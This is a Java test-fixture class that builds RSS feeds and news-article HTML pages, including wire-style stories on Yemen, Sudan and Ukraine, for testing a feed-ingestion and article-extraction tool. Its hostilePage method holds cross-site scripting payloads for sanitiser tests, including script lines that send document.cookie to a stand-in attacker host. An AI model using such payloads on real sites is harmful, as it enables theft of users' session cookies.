package org.sitrep.ingest;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.jsoup.nodes.Entities;

/**
 * Feeds whose entries carry only a one-line summary and link to article pages (with the chrome
 * of a real news site around the story), as the linked-article tests serve them from {@link LocalWire}.
 */
final class LinkedPages {
    private LinkedPages() {}

    /** One feed entry: its guid, headline, link, one-line summary and RFC 822 date. */
    record Entry(String guid, String title, String link, String summary, String date) {}

    static byte[] rss(String title, List<Entry> entries) {
        StringBuilder sb = new StringBuilder(
                        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\"><channel>")
                .append("<title>")
                .append(Entities.escape(title))
                .append("</title><link>https://example.org/</link>")
                .append("<description>")
                .append(Entities.escape(title))
                .append("</description>\n");
        for (Entry e : entries) {
            sb.append("<item><guid isPermaLink=\"false\">")
                    .append(Entities.escape(e.guid()))
                    .append("</guid><title>")
                    .append(Entities.escape(e.title()))
                    .append("</title><link>")
                    .append(Entities.escape(e.link()))
                    .append("</link><description>")
                    .append(Entities.escape(e.summary()))
                    .append("</description><pubDate>")
                    .append(e.date())
                    .append("</pubDate></item>\n");
        }
        return sb.append("</channel></rss>\n").toString().getBytes(StandardCharsets.UTF_8);
    }

    /** An article page: navigation, a cookie box, a share bar, related links and a footer around the story. */
    static byte[] page(String site, String headline, String... paragraphs) {
        StringBuilder sb = new StringBuilder("<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>")
                .append(Entities.escape(headline))
                .append(" | ")
                .append(site)
                .append("</title></head><body>")
                .append("<nav class=\"top-nav\"><a href=\"/\">Home</a> <a href=\"/world\">World</a></nav>")
                .append("<div class=\"cookie-consent\">We use cookies. <a href=\"/privacy\">Learn more</a></div>")
                .append("<main><article><h1>")
                .append(Entities.escape(headline))
                .append("</h1>");
        for (String p : paragraphs) sb.append("<p>").append(Entities.escape(p)).append("</p>");
        sb.append("<div class=\"share-tools\"><a href=\"#\">Share on Facebook</a> <a href=\"#\">Share on X</a></div>")
                .append(
                        "</article><aside class=\"recommended\"><h2>Recommended</h2><p><a href=\"/x\">Markets slide again</a></p>")
                .append("</aside></main><footer><p>© 2026 ")
                .append(site)
                .append(". All rights reserved.</p></footer></body></html>");
        return sb.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** A page with nothing but its chrome: the story is drawn by a script, as on many sites. */
    static byte[] chromeOnly() {
        return ("<!DOCTYPE html><html><head><title>Story | Somewhere</title></head><body>"
                        + "<nav><a href=\"/\">Home</a></nav><div class=\"cookie-consent\">We use cookies.</div>"
                        + "<div id=\"app\"></div><script src=\"/app.js\"></script></body></html>")
                .getBytes(StandardCharsets.UTF_8);
    }

    static final String[] HODEIDAH = {
        "HODEIDAH, Yemen - Air strikes hit the port of Hodeidah on Sunday night, setting fuel tanks ablaze and halting "
                + "unloading at Yemen's main entry point for food and fuel, port officials said.",
        "Three dock workers were killed and nine wounded, the health office in the Houthi-run city said on Monday.",
        "Firefighters were still battling the blaze at the oil terminal on Monday afternoon, a port official said, "
                + "speaking on condition of anonymity.",
        "Aid agencies warned that a long closure of the port would worsen shortages across northern Yemen, where most "
                + "of the population depends on imports."
    };

    /** The same story on El Fasher as two outlets wrote it: other intros, the same facts and quotes. */
    static final String[] EL_FASHER_DISPATCH = {
        "EL FASHER, Sudan - Shelling by the paramilitary Rapid Support Forces killed at least 14 people in the Abu Shouk "
                + "displacement camp on the northern edge of El Fasher on Monday, local medics said.",
        "The Emergency Lawyers group said shells struck a market and a water point in the camp during the morning, "
                + "when hundreds of women were queuing for water.",
        "\"The shells fell on people waiting with their jerrycans. We counted fourteen bodies and more than thirty "
                + "wounded,\" a volunteer with the camp's emergency response room told reporters by telephone.",
        "The RSF has besieged El Fasher, the last major city in Darfur held by the army and its allies, since May 2024. "
                + "The group did not respond to a request for comment.",
        "The United Nations said last week that more than half a million people were trapped in and around the city "
                + "with dwindling supplies of food and medicine."
    };

    static final String[] EL_FASHER_HERALD = {
        "KHARTOUM - At least fourteen displaced people were killed on Monday when shells fired by the Rapid Support "
                + "Forces hit the Abu Shouk camp outside El Fasher, the capital of North Darfur, according to medics.",
        "The Emergency Lawyers group said shells struck a market and a water point in the camp during the morning, "
                + "when hundreds of women were queuing for water.",
        "\"The shells fell on people waiting with their jerrycans. We counted fourteen bodies and more than thirty "
                + "wounded,\" a volunteer with the camp's emergency response room told reporters by telephone.",
        "The RSF, which has besieged El Fasher since May 2024, did not respond to a request for comment.",
        "The United Nations said last week that more than half a million people were trapped in and around the city "
                + "with dwindling supplies of food and medicine."
    };

    /** Hostile markup around a real story: scripts, handlers, a javascript: link, a frame, a style. */
    static byte[] hostilePage() {
        return ("<!DOCTYPE html><html><head><title>Sumy</title><script>fetch('https://evil.example/?c=' + document.cookie)</script>"
                        + "</head><body><article><h1 onclick=\"alert('headline')\">Drone strike hits apartment block in Sumy</h1>"
                        + "<p onmouseover=\"alert('p')\">SUMY, Ukraine - A Russian drone struck a nine-storey apartment block in the "
                        + "centre of Sumy overnight, killing two residents and wounding seven, the regional governor said on Friday."
                        + "<img src=\"x\" onerror=\"alert('img')\"></p>"
                        + "<script>document.location = 'https://evil.example/steal?c=' + document.cookie;</script>"
                        + "<p>Rescuers pulled a child from the rubble of the upper floors. <a href=\"javascript:alert('link')\">Watch</a> "
                        + "and <a href=\"https://news.example/sumy\">read the governor's statement</a>.</p>"
                        + "<iframe src=\"https://evil.example/frame\"></iframe>"
                        + "<p style=\"background:url(javascript:alert(1))\">Sumy lies about 30 km from the Russian border and is "
                        + "shelled almost daily, local officials said.</p></article></body></html>")
                .getBytes(StandardCharsets.UTF_8);
    }
}
